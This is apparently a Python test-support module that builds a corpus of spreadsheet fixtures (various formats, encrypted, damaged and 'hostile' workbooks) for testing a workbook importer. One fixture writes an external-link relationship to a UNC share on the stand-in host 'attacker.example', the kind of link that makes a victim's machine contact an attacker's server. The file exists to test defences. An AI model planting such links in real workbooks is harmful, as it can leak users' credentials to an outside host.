"""The workbooks of the corpus: what builds each, by its name in the corpus."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msoffcrypto
import openpyxl
import xlsxwriter

from tests.support import corpus_pages as pages
from tests.support.corpus_pages import HEADER
from tests.support.corpus_texts import PEOPLE
from tests.support.xlsb import cell, row, write_xlsb

Build = Callable[[Path], None]
_TIME = dt.datetime(2024, 5, 17, tzinfo=dt.UTC).replace(tzinfo=None)


def settle(path: Path, change: Callable[[str, bytes], bytes] = lambda _, content: content) -> None:
    """Write a workbook again with fixed times in it; `change` may alter a part."""
    with zipfile.ZipFile(path) as archive:
        parts = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts:
            fixed = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-05-17T00:00:00Z", content)
            fixed = change(name, fixed if name == "docProps/core.xml" else content)
            archive.writestr(zipfile.ZipInfo(name), fixed, zipfile.ZIP_DEFLATED)


def by_xlsxwriter(fill: Callable[[Any, Any], None], **options: object) -> Build:
    """A workbook whose first sheet, Leads, `fill` fills by xlsxwriter."""

    def build(path: Path) -> None:
        with xlsxwriter.Workbook(str(path), options) as book:
            book.set_properties({"created": _TIME})
            fill(book, book.add_worksheet("Leads"))

    return build


def by_openpyxl(
    fill: Callable[[Any, Any], None],
    change: Callable[[str, bytes], bytes] = lambda _, content: content,
) -> Build:
    """A workbook whose first sheet, Leads, `fill` fills by openpyxl."""

    def build(path: Path) -> None:
        book = openpyxl.Workbook()
        page: Any = book.active
        page.title = "Leads"
        fill(book, page)
        book.save(path)
        settle(path, change)

    return build


def by_libreoffice(build: Build) -> Build:
    """A workbook that LibreOffice makes out of an .xlsx, in the format that its suffix says."""

    def convert(path: Path) -> None:
        with tempfile.TemporaryDirectory() as folder:
            draft = Path(folder) / f"{path.stem}.xlsx"
            build(draft)
            office = shutil.which("soffice") or "soffice"
            home = f"-env:UserInstallation=file://{folder}/home"
            to = ["--headless", "--convert-to", path.suffix[1:], "--outdir", f"{folder}/out"]
            subprocess.run([office, home, *to, str(draft)], check=True, capture_output=True)
            shutil.copy(Path(folder) / "out" / path.name, path)

    return convert


def _with_a_blank_result(path: Path) -> None:
    """A formula whose result is the blank text, as Excel stores it; no library writes that."""

    def change(_: str, content: bytes) -> bytes:
        return content.replace(b'<c r="B3">', b'<c r="B3" t="str">')

    by_xlsxwriter(pages.stored_formulas)(path)
    settle(path, change)


def _with_links(name: str, content: bytes) -> bytes:
    """Declare, in the workbook's relationships, a file on somebody's server."""
    if name == "xl/_rels/workbook.xml.rels":
        kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
        link = b'<Relationship Id="rIdX" Type="%b" Target="externalLinks/externalLink1.xml"/>'
        return content.replace(b"</Relationships>", link % kind + b"</Relationships>")
    return content


def _linked(path: Path) -> None:
    by_openpyxl(pages.appended, _with_links)(path)
    link = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo("xl/externalLinks/externalLink1.xml")
        archive.writestr(info, f'<externalLink xmlns="{link}"/>')
        info = zipfile.ZipInfo("xl/externalLinks/_rels/externalLink1.xml.rels")
        target = r"file:///\\\\attacker.example\share\x.xlsx"
        archive.writestr(
            info,
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" TargetMode="External" Type="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships/externalLinkPath" Target="{target}"/>'
            "</Relationships>",
        )


def _macros(name: str, content: bytes) -> bytes:
    if name == "[Content_Types].xml":
        plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        return content.replace(plain, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return content


def encrypted(password: str) -> Build:
    """A workbook that asks for a password, as Excel has encrypted them since 2010."""

    def build(path: Path) -> None:
        by_xlsxwriter(pages.people)(path)
        content = io.BytesIO(path.read_bytes())
        with path.open("wb") as target:
            msoffcrypto.OfficeFile(content).encrypt(password, target)

    return build


def _binary(path: Path) -> None:
    """Three people and an error, with the second phone as a number."""
    first, (name, city, _), third = PEOPLE
    second = (name, city, 36201234567.0)
    cells: tuple[tuple[str | float, ...], ...] = (HEADER, first, second, third, ("Dan", 0x2A))
    body = b"".join(
        row(number) + b"".join(cell(column, one) for column, one in enumerate(line))
        for number, line in enumerate(cells)
    )
    write_xlsb(path, body)
    settle(path)


def _cut_short(path: Path) -> None:
    by_xlsxwriter(pages.people)(path)
    path.write_bytes(path.read_bytes()[:-900])


def _with_mark(path: Path) -> None:
    """A workbook that a program sent with the byte-order mark of a text in front."""
    by_xlsxwriter(pages.people)(path)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


BOOKS: dict[str, Build] = {
    "formats/bytes_before_the_workbook.xlsx": _with_mark,
    "formats/xlsx.xlsx": by_xlsxwriter(pages.typed),
    "formats/xlsm.xlsm": by_openpyxl(pages.appended, _macros),
    "formats/xls.xls": by_libreoffice(by_xlsxwriter(pages.typed)),
    "formats/ods.ods": by_libreoffice(by_xlsxwriter(pages.typed)),
    "formats/xlsb.xlsb": _binary,
    "formats/named_as_text.csv": by_xlsxwriter(pages.people),
    "formats/write_protected.xlsx": encrypted("VelvetSweatshop"),
    "formats/protected.xlsx": encrypted("not to be guessed"),
    "sheets/zeros_in_front.xlsx": by_xlsxwriter(pages.zeros_in_front),
    "sheets/zeros_in_front_of_xls.xls": by_libreoffice(by_xlsxwriter(pages.zeros_in_front)),
    "sheets/zeros_in_front_of_ods.ods": by_libreoffice(by_xlsxwriter(pages.zeros_in_front)),
    "sheets/struck_out.xlsx": by_xlsxwriter(pages.struck_out),
    "sheets/title_and_blank_line.xlsx": by_xlsxwriter(pages.title),
    "sheets/merged_header.xlsx": by_xlsxwriter(pages.merged_header),
    "sheets/header_merged_over_two_columns.xlsx": by_xlsxwriter(pages.merged_over_two),
    "sheets/header_twice.xlsx": by_xlsxwriter(pages.twice),
    "sheets/header_twice_unused.xlsx": by_xlsxwriter(pages.twice),
    "sheets/hidden_sheets.xlsx": by_xlsxwriter(pages.hidden_sheets),
    "sheets/sheet_named.xlsx": by_xlsxwriter(pages.two_sheets),
    "sheets/sheet_misspelt.xlsx": by_xlsxwriter(pages.two_sheets),
    "sheets/hidden_rows_and_columns.xlsx": by_xlsxwriter(pages.hidden_parts),
    "sheets/formats_below_the_data.xlsx": by_xlsxwriter(pages.formats_below),
    "sheets/formulas_never_calculated.xlsx": by_openpyxl(pages.formulas),
    "sheets/formulas_with_values.xlsx": _with_a_blank_result,
    "sheets/error_cells.xlsx": by_xlsxwriter(pages.errors),
    "sheets/rich_text.xlsx": by_openpyxl(pages.rich),
    "sheets/dates_since_1900.xlsx": by_xlsxwriter(pages.dates),
    "sheets/dates_since_1904.xlsx": by_xlsxwriter(pages.dates, date_1904=True),
    "sheets/numbers_and_texts.xlsx": by_xlsxwriter(pages.numbers_and_texts),
    "sheets/list_away_from_a1.xlsx": by_xlsxwriter(pages.offset),
    "sheets/invisible_characters.xlsx": by_xlsxwriter(pages.invisible),
    "sheets/header_only.xlsx": by_xlsxwriter(pages.no_cells),
    "sheets/hidden_in_xls.xls": by_libreoffice(by_xlsxwriter(pages.hidden_parts)),
    "sheets/hidden_in_ods.ods": by_libreoffice(by_xlsxwriter(pages.hidden_parts)),
    "sheets/error_cells_of_ods.ods": by_libreoffice(by_xlsxwriter(pages.errors)),
    "damage/dates_as_serials.xlsx": by_xlsxwriter(pages.serials),
    "damage/phones_as_numbers.xlsx": by_xlsxwriter(pages.phones_as_numbers),
    "damage/phones_as_times.xlsx": by_xlsxwriter(pages.phones_as_times),
    "types/binary_noise.xls": by_libreoffice(by_openpyxl(pages.noise)),
    "types/binary_noise.ods": by_libreoffice(by_openpyxl(pages.noise)),
    "types/binary_noise.xlsx": by_openpyxl(pages.noise),
    "hostile/external_links.xlsx": _linked,
    "hostile/cut_short.xlsx": _cut_short,
}
